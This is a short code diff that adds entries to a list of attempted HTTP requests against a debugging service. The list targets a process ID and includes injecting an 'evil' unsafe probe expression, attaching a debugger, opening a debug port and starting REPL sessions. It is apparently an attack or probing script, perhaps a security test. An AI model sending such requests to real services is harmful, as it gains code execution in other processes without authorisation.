@@ -22,6 +22,8 @@ ATTEMPTS = [
     ("POST", "/api/v1/wake", {"target": target_pid}),
     ("POST", "/api/v1/probes", {"location": "orders_loop.py:1", "expressions": [evil], "unsafe": True}),
     ("POST", "/api/v1/attach", {"pid": int(target_pid)}),
+    ("GET", "/api/v1/attach/plan?pid={}".format(target_pid), None),
+    ("POST", "/api/v1/debug", {"pid": int(target_pid), "port": 0}),
     ("POST", "/api/v1/processes/{}/repl".format(target_pid), {}),
     ("POST", "/api/v1/repl/sessions", {"pid": int(target_pid)}),
     ("POST", "/api/v1/processes/{}/call/agent.state".format(target_pid), {}),
